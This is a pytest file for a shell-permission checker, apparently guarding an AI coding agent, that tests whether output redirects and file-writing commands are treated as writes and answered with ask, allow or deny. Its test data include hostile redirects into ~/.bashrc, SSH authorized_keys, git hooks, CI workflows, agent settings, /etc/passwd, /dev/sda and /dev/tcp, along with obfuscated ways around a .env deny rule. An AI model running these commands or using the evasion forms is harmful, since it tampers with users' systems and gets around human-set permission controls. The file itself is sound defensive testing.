"""A redirect that writes is a write of its target."""

from __future__ import annotations

import pytest
from verdict_kit import Row, Verdicts, lines, rows

RULES_1 = ("allow Bash:git *",)
RULES_2 = ("allow Bash:git *", "allow Bash:exec *")
RULES_3 = ("allow Bash:git *", "deny Write:**/.env")
RULES_4 = ("allow Bash:git *", "allow Write:/tmp/out/*")
RULES_5 = ("allow Bash:git *", "allow Bash:exec *", "allow Bash:: *", "allow Bash:cat *")
RULES_6 = ("deny Write:**/.env", "allow Bash:*")
ROWS = {
    "s148": Row(RULES_1, {"command": "git log &>> /tmp/PWNED"}, "ask"),
    "s149": Row(RULES_1, {"command": "git log >& /tmp/PWNED"}, "ask"),
    "s150": Row(RULES_1, {"command": "git log 1> /tmp/PWNED"}, "ask"),
    "s151": Row(RULES_1, {"command": "git log 2> /tmp/PWNED"}, "ask"),
    "s153": Row(RULES_2, {"command": ">/tmp/PWNED git log"}, "ask"),
    "s154": Row(RULES_2, {"command": "> /tmp/PWNED"}, "ask"),
    "s155": Row(RULES_2, {"command": "exec {fd}>/tmp/PWNED; git log >&$fd"}, "ask"),
    "s156": Row(RULES_2, {"command": "exec > /tmp/PWNED"}, "ask"),
    "s157": Row(RULES_2, {"command": 'git log > "$HOME/.bashrc"'}, "ask"),
    "s159": Row(RULES_2, {"command": "git log > .caliban/settings.local.toml"}, "ask"),
    "s160": Row(RULES_2, {"command": "git log > /dev/tcp/203.0.113.5/80"}, "ask"),
    "s161": Row(RULES_3, {"command": "git log > app/.env"}, "deny"),
    "s162": Row(RULES_4, {"command": "git log > /tmp/out/log.txt"}, "allow"),
}
SIBLINGS = [
    *lines(
        RULES_5,
        "ask",
        (
            "git log &>/tmp/PWNED",
            "git log >>/tmp/PWNED",
            "git log >",
            "/tmp/PWNED",
            "git log <>/tmp/PWNED",
            "git log 3>/tmp/PWNED",
            "git log {fd}>/tmp/PWNED",
            "git log >&/tmp/PWNED",
            "git log 2>&1 >/tmp/PWNED",
            "(git log) > /tmp/PWNED",
            "{ git log; } > /tmp/PWNED",
            "if git log; then git log; fi > /tmp/PWNED",
            "for i in a; do git log; done > /tmp/PWNED",
            "while git log; do break; done >> /tmp/PWNED",
            " git hash-object --stdin > /tmp/PWNED",
            "> /tmp/PWNED git log",
            ">> /tmp/PWNED",
            ": > /tmp/PWNED",
            "exec >> /tmp/PWNED",
            "exec 3> /tmp/PWNED",
            "exec 3<> /tmp/PWNED",
            "exec &> /tmp/PWNED",
            "git log > ~/.bashrc",
            "git log > $HOME/.bashrc",
            "git log > ${HOME}/.ssh/authorized_keys",
            'git log > "$x"',
            "git log > $(echo a)",
            "git log > `echo a`",
            "git log > ~root/x",
            "git log > .git/hooks/pre-commit",
            "git log > .git/config",
            "git log > .caliban/settings.toml",
            "git log > .caliban/../.caliban/settings.toml",
            "git log > ./.bashrc",
            "git log > /dev/tcp/1.2.3.4/80",
            "git log > /dev/udp/1.2.3.4/80",
            "git log < /dev/tcp/1.2.3.4/80",
            "git log <> /dev/tcp/1.2.3.4/80",
            "git log 3<> /dev/tcp/h/1",
            "git log > /dev/sda",
            "git log > /etc/passwd",
            "git log > ../x",
            "git log > a/../../x",
            "git log > 'a b'",
            "git log > a.txt",
            "git log > *.txt",
            "git log > {a,b}",
            "git log > a{1,2}",
            "git log >&$fd",
            "git log >&${fd}",
            "git log > /proc/self/mem",
            "git log > /proc/self/fd/3",
            "git log > /dev/fd/9",
            "git log 2>/tmp/PWNED 1>&2",
            "git log > CLAUDE.md",
            "git log > .github/workflows/x.yml",
            "git log > Makefile",
            "git log >\\\n/tmp/PWNED",
            'git log > "/tmp/PWNED"',
            "git log > /tmp/PW''NED",
            "git log >$'/tmp/PWNED'",
            "git log > >(cat)",
            "git log &> >(cat)",
            "exec > >(cat)",
            "git log > ~+/x",
            "git log > /dev/null/../../tmp/PWNED",
            "git log > /dev/stderr/../x",
            "git log >| /tmp/PWNED",
            "git log | git hash-object --stdin > /tmp/PWNED",
        ),
    ),
    *lines(
        RULES_1,
        "allow",
        (
            "git log >/dev/null",
            "git log 2>/dev/null",
            "git log &>/dev/null",
            "git log 2>&1",
            "git log >&2",
            "git log > /dev/null 2>&1",
            "git log 1>&2",
            "git log 2>&-",
            "git log < a.txt",
            "git log > /dev/stderr",
            "git log 2>/dev/stdout",
        ),
    ),
    *lines(
        RULES_6,
        "deny",
        (
            "git log > app/.env",
            "git log >> app/.env",
            "git log &> app/.env",
            "git log > app/../app/.env",
            "git log > ./app//.env",
            'git log > "app/.env"',
            "git log > app/.en[v]",
            "git log > app/.e?v",
            "cd app; git log > .env",
            "cd app && git log > .env",
            "(cd app; git log > .env)",
            "git log 2> app/.env",
            "git log >| app/.env",
            "git log <> app/.env",
            "{ git log; } > app/.env",
            "git log | cat > app/.env",
            "git log > app/.e''nv",
            "tee app/.env",
            "git log | tee -a app/.env",
            "cp a.txt app/.env",
            "mv a.txt app/.env",
            "dd of=app/.env",
            "sed -i s/a/b/ app/.env",
            "ln -s x app/.env",
            "install a.txt app/.env",
            "truncate -s0 app/.env",
            "git log --output=app/.env",
            "sort -o app/.env a.txt",
            "curl -o app/.env x",
            "wget -O app/.env x",
            "touch app/.env",
            "rsync a app/.env",
            "perl -i -pe 1 app/.env",
        ),
    ),
]


@pytest.mark.parametrize("row", rows(ROWS))
def test_a_row(row: Row, place: Verdicts) -> None:
    assert place.verdict(row) == row.expect


@pytest.mark.long(keep=5)
@pytest.mark.parametrize("row", SIBLINGS)
def test_a_sibling(row: Row, place: Verdicts) -> None:
    place.check(row)


@pytest.mark.parametrize("name", ["s148", "s153", "s157"])
def test_the_command_says_the_same(name: str, place: Verdicts) -> None:
    assert place.by_command(ROWS[name]) == ROWS[name].expect
